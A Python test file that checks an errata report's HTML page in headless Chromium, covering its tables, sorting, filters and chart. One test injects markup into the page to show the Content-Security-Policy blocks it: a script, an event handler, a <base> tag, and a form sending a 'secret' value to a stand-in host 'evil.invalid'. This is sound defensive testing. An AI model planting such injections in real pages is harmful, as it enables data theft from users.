"""The HTML report in a real headless Chromium (Debian's `chromium`, installed by ./run setup).

The page is opened from disk, its script draws the tables, and the test reads them back,
clicks column titles with the mouse and saves screenshots in build/ for people to look at.
"""

from __future__ import annotations

import json
from pathlib import Path

import headless
import pytest

REPO = Path(__file__).resolve().parents[2]
pytestmark = pytest.mark.skipif(
    headless.find() is None,
    reason="no chromium on PATH (Debian: ./run setup installs it; EL9 has it only in EPEL)",
)

ROWS = "Array.from(document.querySelectorAll('#{t} tbody tr.row'))"


def cells(page: headless.Page, table: str, col: str) -> list[str]:
    q = f"{ROWS.format(t=table)}.map(r => r.querySelector('td[data-col={col}]').textContent)"
    return list(page.eval(q))


def keys(page: headless.Page, table: str) -> list[str]:
    return list(page.eval(f"{ROWS.format(t=table)}.map(r => r.getAttribute('data-key'))"))


@pytest.fixture(scope="module")
def example(tmp_path_factory):
    """The example site's report, as HTML and as JSON (the page must show the JSON's numbers)."""
    import shutil

    from click.testing import CliRunner

    from errata_tpl.cli import main

    root = tmp_path_factory.mktemp("browser") / "root"
    for d in ("os", "site", "errata"):
        shutil.copytree(REPO / d, root / d)
    runner = CliRunner()
    env = {"SOURCE_DATE_EPOCH": "1796083200"}
    page = root / "report.html"
    r = runner.invoke(main, ["--root", str(root), "report", "-o", str(page)], env=env)
    assert r.exit_code == 0, r.output
    r = runner.invoke(main, ["--root", str(root), "report", "--format", "json"], env=env)
    return page, json.loads(r.stdout)


@pytest.fixture(scope="module")
def page(example):
    with headless.Browser(width=1400, height=1000) as b:
        p = b.open(example[0].as_uri())
        p.wait_for("document.body.getAttribute('data-ready') === '1'")
        yield p


def test_every_node_with_its_numbers(page, example):
    _, data = example
    assert page.eval("document.querySelector('#node-pager .range').textContent") == "Showing 1\u201312 of 12"
    nodes = {n["node"]: n for n in data["nodes"]}
    shown = keys(page, "node-table")
    assert sorted(shown) == sorted(nodes)
    for col, want in (
        ("missing", lambda n: str(len(n["missing"]))),
        ("critical", lambda n: str(n["counts"]["Critical"])),
        ("important", lambda n: str(n["counts"]["Important"])),
        ("cves", lambda n: str(len(n["cves"]))),
        ("age", lambda n: "\u2013" if n["profile_age_days"] is None else str(n["profile_age_days"])),
    ):
        assert dict(zip(shown, cells(page, "node-table", col))) == {k: want(n) for k, n in nodes.items()}, col
    labels = {
        "Critical": "Critical",
        "Important": "Important",
        "unrated": "Not rated",
        "current": "Up to date",
        "unknown": "No data",
    }
    assert dict(zip(shown, cells(page, "node-table", "worst"))) == {k: labels[n["worst"]] for k, n in nodes.items()}
    # the default order: most severe first
    critical = sum(1 for n in nodes.values() if n["worst"] == "Critical")
    assert critical >= 4 and [nodes[k]["worst"] for k in shown][:critical] == ["Critical"] * critical


def test_every_advisory_with_its_numbers(page, example):
    _, data = example
    page.click("#adv-lacked")  # also the advisories no machine lacks
    advs = {a["id"]: a for a in data["advisories"]}
    shown = keys(page, "adv-table")
    assert sorted(shown) == sorted(advs)
    assert dict(zip(shown, cells(page, "adv-table", "lacking"))) == {k: str(a["lacking"]) for k, a in advs.items()}
    assert dict(zip(shown, cells(page, "adv-table", "have"))) == {k: str(a["have"]) for k, a in advs.items()}
    # an advisory opened lists the machines that lack it
    page.click("#adv-table tbody tr.row[data-key='EXSA-2026:1002'] td")
    listed = page.eval("document.querySelector('#adv-table .lacking-list').textContent")
    assert listed.split(", ") == advs["EXSA-2026:1002"]["nodes_lacking"]
    page.click("#adv-lacked")


def test_sorting_by_a_click(page, example):
    _, data = example
    page.click("#node-table th[data-col=node] button")
    names = keys(page, "node-table")
    assert names == sorted(n["node"] for n in data["nodes"])
    assert page.eval("document.querySelector('#node-table th[data-col=node]').getAttribute('aria-sort')") == "ascending"
    page.click("#node-table th[data-col=node] button")
    assert keys(page, "node-table") == names[::-1]
    page.click("#node-table th[data-col=cves] button")
    counts = [int(c) for c in cells(page, "node-table", "cves")]
    assert counts == sorted(counts) and counts[0] < counts[-1]
    page.click("#adv-table th[data-col=issued] button")
    issued = cells(page, "adv-table", "issued")
    assert issued == sorted(issued)


def test_filters_and_the_chart(page, example):
    _, data = example
    page.click("#chart-worst .bar[data-key=Critical] rect")  # a bar of the chart lists those machines
    critical = sorted(n["node"] for n in data["nodes"] if n["worst"] == "Critical")
    assert sorted(keys(page, "node-table")) == critical
    page.eval("(s => { s.value = ''; s.dispatchEvent(new Event('change')); })(document.getElementById('node-worst'))")
    page.click("#node-filter")
    page.send("Input.insertText", {"text": "CVE-2026-10006"})  # typed, as a person would
    lacking = sorted(n["node"] for n in data["nodes"] if "CVE-2026-10006" in n["cves"])
    assert sorted(keys(page, "node-table")) == lacking and lacking
    page.eval("(f => { f.value = ''; f.dispatchEvent(new Event('input')); })(document.getElementById('node-filter'))")
    assert len(keys(page, "node-table")) == len(data["nodes"])


def test_a_machine_opened_shows_what_it_lacks(page, example):
    _, data = example
    node = next(n for n in data["nodes"] if n["node"] == "wn-051.example.org")
    page.click("#node-table tbody tr.row[data-key='wn-051.example.org'] td")
    text = page.eval("document.querySelector('#node-table tr.detail').textContent")
    for m in node["missing"]:
        assert m["id"] in text
    assert "openssl-libs.x86_64 1:3.0.7-18.el9_2 \u2192 1:3.0.7-24.el9" in text
    page.click("#node-table tbody tr.row[data-key='wn-051.example.org'] td")


def test_nothing_from_the_network_and_screenshots(page, example):
    assert page.requests() == [example[0].as_uri()]  # one self-contained file
    summary = example[1]["summary"]
    assert page.eval("document.querySelector('#card-critical .big').textContent") == str(
        summary["nodes_by_worst"]["Critical"]
    )
    page.eval("window.scrollTo(0, 0)")
    page.screenshot(REPO / "build" / "report-example.png")
    page.screenshot(REPO / "build" / "report-example-full.png", full_page=True)
    assert (REPO / "build" / "report-example.png").read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"


def test_the_policy_runs_only_the_pages_own_script_and_sends_nothing(example, tmp_path):
    """What the Content-Security-Policy holds in Chromium, shown on the report with
    things injected into it: an inline script, an event handler, a <base> pointing
    elsewhere, a form sending to elsewhere, an image from elsewhere."""
    import html as htmlmod
    import re
    import time

    text = example[0].read_text()
    (csp,) = re.findall(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', text)
    directives = dict(d.strip().split(" ", 1) for d in htmlmod.unescape(csp).split(";"))
    assert directives["default-src"] == "'none'" and directives["img-src"] == "data:"
    assert re.fullmatch(r"'sha256-[A-Za-z0-9+/]{43}='", directives["script-src"])  # no 'unsafe-inline'
    assert directives["form-action"] == directives["base-uri"] == "'none'" and directives["webrtc"] == "'block'"
    injected = text.replace(
        "<body>",
        '<body><base href="https://evil.invalid/"><form id="evil" action="https://evil.invalid/send">'
        '<input name="q" value="secret"></form><img src="https://evil.invalid/p.png" '
        "onerror=\"document.body.dataset.handler = '1'\"><script>document.body.dataset.injected = '1'</script>",
        1,
    )
    path = tmp_path / "injected.html"
    path.write_text(injected)
    with headless.Browser() as b:
        p = b.open(path.as_uri())
        p.wait_for("document.body.getAttribute('data-ready') === '1'")  # the page's own script ran
        assert p.eval("document.body.dataset.injected") is None
        assert p.eval("document.body.dataset.handler") is None
        assert p.eval("document.baseURI") == path.as_uri()
        p.eval("document.getElementById('evil').submit()")
        time.sleep(0.5)
        assert p.eval("location.href") == path.as_uri()
        # the image asked for and blocked by the policy before it left; the form's navigation
        # cancelled before any request (Chromium reports both as failed loads)
        assert p.requests() == [path.as_uri(), "https://evil.invalid/p.png"]
        failed = [e["params"] for e in b.events if e.get("method") == "Network.loadingFailed"]
        assert [(f["type"], f.get("blockedReason"), f["canceled"]) for f in failed] == [
            ("Image", "csp", False),
            ("Document", None, True),
        ]


# --- with the example's inventories (examples/installed/): what nodes really have -------------


@pytest.fixture(scope="module")
def observed_page(tmp_path_factory):
    import shutil
    import subprocess
    import sys

    from click.testing import CliRunner

    from errata_tpl.cli import main

    base = tmp_path_factory.mktemp("browser-observed")
    root, inv = base / "root", base / "installed"
    for d in ("os", "site", "errata"):
        shutil.copytree(REPO / d, root / d)
    shutil.copytree(REPO / "examples/installed", inv)
    subprocess.run([sys.executable, str(REPO / "tools/make-example-inventories"), "--touch", str(inv)], check=True)
    args = ["--root", str(root), "report", "--installed", str(inv)]
    env = {"SOURCE_DATE_EPOCH": "1796083200"}
    runner = CliRunner()
    r = runner.invoke(main, [*args, "-o", str(base / "report.html")], env=env)
    assert r.exit_code == 0, r.output
    data = json.loads(runner.invoke(main, [*args, "--format", "json"], env=env).stdout)
    with headless.Browser(width=1400, height=1000) as b:
        p = b.open((base / "report.html").as_uri())
        p.wait_for("document.body.getAttribute('data-ready') === '1'")
        yield p, data


def test_the_state_column_and_its_filter(observed_page):
    page, data = observed_page
    states = {n["node"]: (n["observed"] or {"state": "unknown"})["state"] for n in data["nodes"]}
    assert dict(zip(keys(page, "node-table"), cells(page, "node-table", "state"))) == states
    assert set(states.values()) == {"applied", "pending", "drifted", "stale", "unknown"}
    choose = "(s => {{ s.value = '{}'; s.dispatchEvent(new Event('change')); }})(document.getElementById('node-state'))"
    page.eval(choose.format("drifted"))
    assert keys(page, "node-table") == [n for n, s in states.items() if s == "drifted"]
    page.eval(choose.format(""))
    assert len(keys(page, "node-table")) == len(states)


def test_the_cards_count_what_is_installed(observed_page):
    """Where a node has an inventory, the cards count what its installed set lacks (applicable),
    else what its list lacks: the JSON's numbers, added up here."""
    page, data = observed_page
    levels = {a["id"]: a["severity"] for a in data["advisories"]}
    real = {}
    for n in data["nodes"]:
        o = n["observed"]
        real[n["node"]] = o["applicable"] if o else [m["id"] for m in n["missing"]]
    critical = sum(1 for ids in real.values() if any(levels[i] == "Critical" for i in ids))
    exposed = sum(1 for ids in real.values() if ids)
    assert int(page.eval("document.querySelector('#card-critical .big').textContent")) == critical
    assert int(page.eval("document.querySelector('#card-exposed .big').textContent")) == exposed
    # the lists alone give other figures (the example is made so): the cards are not the list view
    assert exposed != data["summary"]["exposed"] or critical != data["summary"]["nodes_by_worst"]["Critical"]
    text = page.eval("document.querySelector('#card-observed').textContent")
    obs = data["summary"]["observed"]
    assert f"{obs['drifted']} drifted, {obs['pending']} pending" in " ".join(text.split())


def test_a_machine_opened_shows_its_drift(observed_page):
    page, data = observed_page
    page.click("#node-table tbody tr.row[data-key='wn-051.example.org'] td")
    text = " ".join(page.eval("document.querySelector('#node-table tr.detail .observed').textContent").split())
    assert "drifted (1): bash.x86_64 5.1.8-9.el9 \u2192 5.1.8-6.el9_1" in text
    assert "extra (1): seamonkey-nss.x86_64 2.53.17-1.el9 \u2192 not on the list" in text
    assert "no epochs in this inventory" in text  # rpm -qa's default form
    node = next(n for n in data["nodes"] if n["node"] == "wn-051.example.org")
    assert "Lacks as installed: " + ", ".join(node["observed"]["applicable"]) in text
    page.click("#node-table tbody tr.row[data-key='wn-051.example.org'] td")
    page.eval("window.scrollTo(0, 0)")
    page.screenshot(REPO / "build" / "report-example-observed.png")
